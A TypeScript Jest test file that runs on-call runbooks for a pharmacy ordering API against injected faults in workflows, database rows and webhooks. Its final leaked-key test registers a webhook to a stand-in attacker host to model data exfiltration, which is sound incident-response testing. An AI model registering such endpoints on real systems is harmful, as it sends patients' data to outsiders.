/** Runbooks of single requests, keys and endpoints: the fault is caused, the page is followed, and nothing is lost or doubled. */
import { randomUUID } from 'node:crypto';
import { expect, test } from '@jest/globals';
import { sql } from 'kysely';
import { readStoredRequest } from '../../db/requests/stored-request.ts';
import type { WebhookRecord } from '../../domain/webhooks/records.ts';
import { EXIT } from '../../ops/errors.ts';
import type { SearchAnswer } from '../../api/partner/search.ts';
import type { RequestRecord } from '../../domain/requests/record.ts';
import { type ApiResponse, ITEM, ORDER } from '../support/callers/api-caller.ts';
import { connectSystem, requireSteps } from '../support/pharmacies/systems.ts';
import { eventually } from '../support/engine/eventually.ts';
import { runOpsOf } from '../support/engine/ops-command.ts';
import { prepared } from '../support/suite/prepared.ts';
import { useOwnEngine } from '../support/suite/use-own-engine.ts';
import { startReceiver } from '../support/webhooks/receiver.ts';
import { register } from '../support/webhooks/registered-webhooks.ts';
import { deliveriesOf, untilSent } from '../support/webhooks/webhooks.ts';
import { commandsOf, RUNBOOKS, useOnCall } from './on-call.ts';

/** Timeout in milliseconds of tests that wait for failing attempts on a busy machine. */
const ROOM_MS = 150_000;

/** How far the clock of the API is ahead; milliseconds. */
let aheadMs = 0;

const { engine, given } = useOwnEngine({ clock: () => new Date(Date.now() + aheadMs) });
const partner = prepared(given.partner());
const onCall = useOnCall(() => engine);

const until = (describe: string, isSo: () => boolean | Promise<boolean>) =>
  eventually(async () => isSo(), { deadlineMs: 60_000, describe });
const stored = (requestId: string) => readStoredRequest(engine.database, requestId);
const step = (requestId: string, name: 'dispense' | 'confirm') =>
  engine.fulfilment.takeStep(requestId, name, { actor: 'pharmacy' }, `${name}-${randomUUID()}`);

async function pendingOrder() {
  const pharmacy = await given.pharmacy().stocked();
  const { request_id } = await given.order().by(partner).at(pharmacy);
  return { pharmacy, request_id };
}

async function statusesOf(requestId: string): Promise<string[]> {
  const { timeline } = await partner.read(requestId);
  return timeline.map(({ status }) => status);
}

test.each(RUNBOOKS)('the runbook %s has at most three commands', (page) => {
  const commands = commandsOf(page);
  expect([commands.length > 0, commands.length <= 3]).toEqual([true, true]);
});

test('an operator settles a request by phone when its pharmacy never answers', async () => {
  const { request_id } = await pendingOrder();
  const next = onCall.follow('pharmacy-never-answers.md', request_id);
  expect((await next()).output).toMatch(/waits +for its pharmacy, which must accept or reject by 20/);
  expect((await next()).output).toBe(`${request_id} is rejected\n`);
  expect(await statusesOf(request_id)).toEqual(['pending', 'rejected']);
});

test(
  'orders for a pharmacy system that was down are offered once when it is back',
  async () => {
    const pharmacy = await given.pharmacy().stocked();
    const { system, pharmacyId } = await connectSystem(engine.database, pharmacy, () => 'error_before');
    const { request_id } = await given.order().by(partner).at(pharmacy);
    const failsOften = async () => {
      const { raw } = await engine.client.workflow.getHandle(request_id).describe();
      return (raw.pendingActivities?.[0]?.attempt ?? 0) > 3;
    };
    await until('the offer to fail', failsOften);
    const next = onCall.follow('pharmacy-system-down.md', request_id, pharmacyId);
    expect((await next()).output).toMatch(
      /waits for offerOrder: \S+, attempt \d+, .*last failure: .*(?:503|has not answered)/,
    );
    expect((await next()).output).toMatch(new RegExp(`${pharmacyId} .* 1 +The answer was 503\\.`));
    system.faults = () => undefined;
    expect((await next()).errors).toBe('');
    await until('the order to be there', () => system.orders.has(request_id));
    expect(system.made.get(request_id)).toBe(1);
    await system.close();
  },
  ROOM_MS,
);

test(
  "an order that a pharmacy's system refused is offered again after a new secret, and created once",
  async () => {
    const pharmacy = await given.pharmacy().stocked();
    const { system, secrets, pharmacyId } = await connectSystem(engine.database, pharmacy);
    secrets.splice(0);
    const { request_id } = await given.order().by(partner).at(pharmacy);
    const isRefused = async () =>
      (
        await sql`select from offered_order where request_id = ${request_id} and refused_at is not null`.execute(
          engine.database,
        )
      ).rows.length === 1;
    await until('the order to be refused', isRefused);
    const next = onCall.follow('pharmacy-refuses-orders.md', request_id, pharmacyId);
    expect((await next()).output).toContain(`refused by the system of ${pharmacyId}`);
    const [, secret = ''] = /^secret: (\S+)$/m.exec((await next()).output) ?? [];
    secrets.push(secret);
    expect((await next()).output).toBe(`${request_id} is offered again\n`);
    await requireSteps(engine, system, { request_id }, ['lookup', 'offer']);
    expect(system.made.get(request_id)).toBe(1);
    await system.close();
  },
  ROOM_MS,
);

test(
  'an activity that always fails shows its failure and is retried when the cause is gone',
  async () => {
    const owner = await given.partner();
    const name = sql.id(`mistake_${owner.partnerId}`);
    await sql`create function ${name}() returns trigger language plpgsql as
    'begin raise exception ''a mistake in a trigger''; end'`.execute(engine.database);
    await sql`create trigger ${name} before insert on request for each row
    when (new.partner_id = ${sql.lit(owner.partnerId)}) execute function ${name}()`.execute(engine.database);
    const { request_id } = await given.order().by(owner);
    const next = onCall.follow('activity-throws.md', request_id);
    const failsOften = async () => {
      const { raw } = await engine.client.workflow.getHandle(request_id).describe();
      return (raw.pendingActivities?.[0]?.attempt ?? 0) > 5;
    };
    await until('the write to fail', failsOften);
    expect((await next()).output).toMatch(
      /waits for recordRequest: \S+, attempt \d+, .*last failure: a mistake in a trigger/,
    );
    await sql`drop function ${name} cascade`.execute(engine.database);
    expect((await next()).errors).toBe('');
    // Temporal learns of the write shortly after Postgres has it.
    const isWriting = async () => {
      const { raw } = await engine.client.workflow.getHandle(request_id).describe();
      return (
        raw.pendingActivities?.some(({ activityType }) => activityType?.name === 'recordRequest') ?? false
      );
    };
    await until('the write to be over', async () => !(await isWriting()));
    expect(await stored(request_id)).toBeDefined();
    const after = await next();
    expect(after.output).not.toContain('recordRequest');
    expect((await owner.read(request_id)).timeline).toHaveLength(1);
  },
  ROOM_MS,
);

test('a lost row is restored unchanged, and the request continues', async () => {
  const { request_id } = await pendingOrder();
  await step(request_id, 'confirm');
  const before = await stored(request_id);
  for (const table of ['event', 'timeline_entry', 'request'])
    await sql`delete from ${sql.table(table)} where request_id = ${request_id}`.execute(engine.database);
  const next = onCall.follow('row-wrong.md', request_id);
  expect((await next()).output).toContain('row: Postgres has none, the workflow 2 entries written');
  expect((await next()).errors).toBe('');
  expect(await stored(request_id)).toEqual(before);
  await step(request_id, 'dispense');
  expect(await statusesOf(request_id)).toEqual(['pending', 'confirmed', 'dispensing']);
});

test('a wrong row is named by field and repaired, and later steps are recorded', async () => {
  const { request_id } = await pendingOrder();
  await step(request_id, 'confirm');
  const before = await stored(request_id);
  await engine.database
    .updateTable('request')
    .set({ status: 'failed', sequence: 50 })
    .where('request_id', '=', request_id)
    .execute();
  const next = onCall.follow('row-wrong.md', request_id);
  const { output } = await next();
  expect(output).toContain('status: Postgres has failed, the workflow confirmed');
  expect(output).toContain('sequence: Postgres has 50, the workflow 2');
  expect((await next()).errors).toBe('');
  expect(await stored(request_id)).toEqual(before);
  await step(request_id, 'dispense');
  expect(await stored(request_id)).toMatchObject({ status: 'dispensing', sequence: 3 });
});

/** Inserts an entry that the workflow does not have. */
async function insertEntry(request_id: string, sequence: number, status: string): Promise<void> {
  const entry = JSON.stringify({ sequence, status, at: new Date().toISOString(), actor: 'partner' });
  await sql`insert into timeline_entry (request_id, sequence, entry)
    values (${request_id}, ${sequence}, ${entry}::jsonb)`.execute(engine.database);
}

/** Compares the workflow, Postgres, the partner's record and its events. */
async function requireAgreement(requestId: string, course: readonly string[]): Promise<void> {
  const rows = await stored(requestId);
  expect(rows?.timeline.map(({ status }) => status)).toEqual(course);
  expect([rows?.status, rows?.sequence]).toEqual([course.at(-1), course.length]);
  const decided = await engine.fulfilment.state(requestId);
  expect(decided?.record.timeline.map(({ status }) => status)).toEqual(course);
  expect(await statusesOf(requestId)).toEqual(course);
  const events = await partner.eventsOf(requestId);
  expect(events.map((event) => event.data.status)).toEqual(course);
}

test(
  'an entry that only Postgres has stops steps without a loop, is named, and is removed or kept as the operator decides',
  async () => {
    const [unwanted, wanted] = [await pendingOrder(), await pendingOrder()];
    await step(wanted.request_id, 'confirm');
    const isWritten = async () => (await stored(unwanted.request_id)) !== undefined;
    await until('the request to be in Postgres', isWritten);
    await insertEntry(unwanted.request_id, 2, 'cancelled');
    await insertEntry(wanted.request_id, 3, 'dispensing');
    await expect(step(unwanted.request_id, 'confirm')).rejects.toThrow('Workflow Update failed');
    const described = await engine.client.workflow.getHandle(unwanted.request_id).describe();
    expect(described.historyLength).toBeLessThan(60);
    for (const { request_id } of [unwanted, wanted]) {
      const refused = await onCall.last('row-wrong.md', request_id);
      expect([refused.exitCode, refused.errors]).toEqual([
        EXIT.refused,
        expect.stringMatching(/Not repaired: Postgres has entry \d \w+ 20\S+, which the workflow lacks/),
      ]);
    }
    const listed = await runOpsOf(engine, 'requests', 'stuck');
    expect(listed.output).toMatch(
      new RegExp(
        `${unwanted.request_id} +cancelled +RUNNING +rows_differ +Postgres has entry 2 cancelled 20`,
      ),
    );

    const next = onCall.follow('rows-ahead.md', unwanted.request_id);
    expect((await next()).output).toContain('Postgres has entry 2 cancelled 20');
    expect((await next()).output).toContain('both are equal now');
    await requireAgreement(unwanted.request_id, ['pending']);
    await step(unwanted.request_id, 'confirm');
    await requireAgreement(unwanted.request_id, ['pending', 'confirmed']);

    expect((await onCall.last('rows-ahead.md', wanted.request_id)).output).toContain('both are equal now');
    await requireAgreement(wanted.request_id, ['pending', 'confirmed', 'dispensing']);
    const after = await runOpsOf(engine, 'requests', 'stuck');
    for (const { request_id } of [unwanted, wanted]) expect(after.output).not.toContain(request_id);
    const audited = await runOpsOf(engine, 'audit', 'list', '--target', wanted.request_id);
    expect(audited.output).toMatch(/requests reconcile +req_\w+ +done/);
  },
  ROOM_MS,
);

test('a workflow terminated by mistake continues where it was, with its stock', async () => {
  const { request_id } = await pendingOrder();
  await step(request_id, 'confirm');
  await engine.client.workflow.getHandle(request_id).terminate('by mistake');
  const next = onCall.follow('workflow-terminated.md', request_id);
  expect((await next()).output).toContain('the request is stuck at confirmed');
  expect((await next()).output).toContain(`${request_id} continues as run`);
  await step(request_id, 'dispense');
  expect(await statusesOf(request_id)).toEqual(['pending', 'confirmed', 'dispensing']);
});

test(
  'an endpoint that is repaired gets every event that it missed, in order',
  async () => {
    const owner = await given.partner();
    const receiver = await startReceiver();
    receiver.answer = () => 410;
    const { webhook_id } = await register(owner, { url: receiver.url });
    const { request_id } = await given.order().by(owner).playing('happy');
    const isOff = async () =>
      (await owner.call<WebhookRecord>('GET', `/webhooks/${webhook_id}`)).data.status === 'disabled';
    await until('the endpoint to be turned off', isOff);
    await engine.client.workflow.getHandle(request_id).result();
    const next = onCall.follow('dead-endpoint.md', request_id, webhook_id);
    expect((await next()).output).toMatch(
      new RegExp(
        `webhook +${webhook_id} of ${owner.partnerId} lacks 6 of its events: it is off \\(gone, by system\\)\n +last failure: .*410`,
      ),
    );
    receiver.received.splice(0);
    receiver.answer = () => 200;
    expect((await next()).errors).toBe('');
    await untilSent(engine, request_id);
    const sent = receiver.received.map(({ event }) => event.data.sequence);
    expect(sent).toEqual([1, 2, 3, 4, 5, 6]);
    const states = (await deliveriesOf(engine.database, webhook_id)).map(({ state }) => state);
    expect(states).toEqual(sent.map(() => 'acknowledged'));
    expect((await next()).output).not.toContain('lacks');
    await receiver.close();
  },
  ROOM_MS,
);

test(
  'the last response of a failing endpoint is shown with its time, also for a request that has no attempt yet',
  async () => {
    const owner = await given.partner();
    const receiver = await startReceiver();
    receiver.answer = () => 503;
    const { webhook_id } = await register(owner, { url: receiver.url });
    const attempts = engine.database
      .selectFrom('webhook_attempt')
      .select('started_at')
      .where('webhook_id', '=', webhook_id);
    await given.order().by(owner);
    await until('a failed attempt', async () => (await attempts.execute()).length > 0);
    await sql`update webhook set broken_at = now() where webhook_id = ${webhook_id}`.execute(engine.database);
    const { request_id } = await given.order().by(owner);
    const next = onCall.follow('dead-endpoint.md', request_id, webhook_id);
    const isHeld = async () =>
      (await deliveriesOf(engine.database, webhook_id)).some(
        (delivery) => delivery.request_id === request_id && delivery.state === 'held',
      );
    await until('the event to be held', isHeld);
    const last = /last failure: .*503.* at 20\d\d-\S+Z/;
    expect((await next()).output).toMatch(last);
    const shown = await runOpsOf(engine, 'webhooks', 'show', webhook_id);
    expect(shown.output).toMatch(/20\S+Z +evt_\w+ +\w+ +\d+ +\w+ 503/);
    const listed = await runOpsOf(engine, 'requests', 'stuck');
    expect(listed.output).toMatch(new RegExp(`${webhook_id} .*fails since .*503.* at 20`));
    receiver.answer = () => 200;
    expect((await next()).errors).toBe('');
    const areSent = async () =>
      (await deliveriesOf(engine.database, webhook_id)).every(({ state }) => state === 'acknowledged');
    await until('every event to be sent', areSent);
    expect((await next()).output).not.toContain('lacks');
    await receiver.close();
  },
  ROOM_MS,
);

test(
  'an order with an expired offer is refused and leaves nothing, and is placed once with the new offer',
  async () => {
    const owner = await given.partner();
    // No other pharmacy is near.
    const nowhere = { latitude: 4.1, longitude: 2.9 };
    const pharmacy = await given.pharmacy().listed().with(nowhere).stocked();
    const { system, pharmacyId } = await connectSystem(engine.database, pharmacy);
    const receiver = await startReceiver();
    await register(owner, { url: receiver.url });
    // The registration sends a test event.
    const eventsOf = () => receiver.received.filter(({ event }) => event.type.startsWith('request.'));
    const setPrice = (price_ngn: number) =>
      sql`update stock set price_ngn = ${price_ngn} from pharmacy
          where pharmacy.pharmacy_number = stock.pharmacy_number and pharmacy_id = ${pharmacyId}`.execute(
        engine.database,
      );
    await setPrice(900);
    const { data: found } = await owner.call<SearchAnswer>('POST', '/medicines/search', {
      query: ITEM.medicine,
      location: { lat: nowhere.latitude, lng: nowhere.longitude },
    });
    const offer = found.results.find(({ pharmacy_id }) => pharmacy_id === pharmacyId);
    const external_id = `offer-${randomUUID()}`;
    const place = (offer_id: string | undefined) =>
      owner.call<RequestRecord>('POST', '/requests', {
        ...ORDER,
        external_id,
        pharmacy_id: pharmacyId,
        items: [{ ...ITEM, offer_id }],
        sandbox: { scenario: 'manual', step_seconds: 0 },
      });
    await setPrice(1_000);
    aheadMs = 16 * 60_000;
    const refused = await place(offer?.offer_id);
    let placed: ApiResponse<RequestRecord>;
    try {
      expect([refused.status, refused.error.code]).toEqual([409, 'price_changed']);
      // The log of calls lags by a second.
      let listed = { output: '', errors: '' };
      await until('the refusal to be in the log', async () => {
        listed = await onCall.follow('orders-refused.md', owner.partnerId)();
        return listed.output.includes('price_changed');
      });
      expect(listed.errors).toBe('');
      expect(listed.output).toMatch(
        new RegExp(
          `20\\S+Z +POST /requests +409 +price_changed +\\S+ +${refused.headers.get('x-request-id')}`,
        ),
      );
      expect(listed.output).toContain('price_changed: The offer for an item has expired');
      const open = await owner.call<{ requests: unknown[] }>('GET', `/requests?external_id=${external_id}`);
      expect([open.data.requests, system.orders.size, eventsOf()]).toEqual([[], 0, []]);
      placed = await place(refused.error.fields?.[0]?.new_offer?.offer_id);
    } finally {
      aheadMs = 0;
    }
    expect(placed).toMatchObject({ status: 201, data: { total_ngn: 2_000 } });
    const { request_id } = placed.data;
    await until('the order to be offered', async () => system.orders.has(request_id));
    await until('its event', async () =>
      receiver.received.some(({ event }) => event.data.request_id === request_id),
    );
    expect([...system.made]).toEqual([[request_id, 1]]);
    expect((await stored(request_id))?.timeline.map(({ status }) => status)).toEqual(['pending']);
    expect((await engine.fulfilment.state(request_id))?.record.timeline).toHaveLength(1);
    expect(new Set(eventsOf().map(({ id }) => id)).size).toBe(1);
    await system.close();
    await receiver.close();
  },
  ROOM_MS,
);

test('a leaked key is revoked and then refused, and what it read, registered and ordered is listed', async () => {
  const owner = await given.partner();
  const { request_id } = await given.order().by(owner);
  await owner.read(request_id);
  const { webhook_id } = await register(owner, { url: 'https://attacker.example.com/' });
  const { key_id } = await engine.database
    .selectFrom('api_key')
    .select('key_id')
    .where('partner_id', '=', owner.partnerId)
    .executeTakeFirstOrThrow();
  const next = onCall.follow('key-leaked.md', owner.partnerId, key_id, request_id);
  expect((await next()).output).toContain(key_id);
  const revoked = await next();
  expect([revoked.exitCode, revoked.errors]).toEqual([EXIT.done, '']);
  await until('the key to be refused', async () => (await owner.call('GET', '/usage')).status === 401);
  // The log of reads lags by a second.
  const readsByKey = engine.database
    .selectFrom('patient_data_read')
    .select('operation')
    .where('key_id', '=', key_id)
    .where('operation', '=', 'readRequest');
  await until('the read to be in the log', async () => (await readsByKey.execute()).length > 0);
  const used = await next();
  expect(used.errors).toBe('');
  for (const line of [
    new RegExp(`^${request_id} +.*readRequest`, 'm'),
    new RegExp(`^${webhook_id} +webhook\\.created`, 'm'),
    new RegExp(`^${request_id} +pending +20`, 'm'),
    /^POST \/webhooks +1 +0 +20/m,
  ])
    expect(used.output).toMatch(line);
  const other = await runOpsOf(
    engine,
    'keys',
    'used',
    '--key',
    'key_none',
    '--since',
    '2026-01-01T00:00:00Z',
  );
  expect([other.exitCode, other.errors]).toEqual([EXIT.refused, expect.stringContaining('There is no key')]);
});
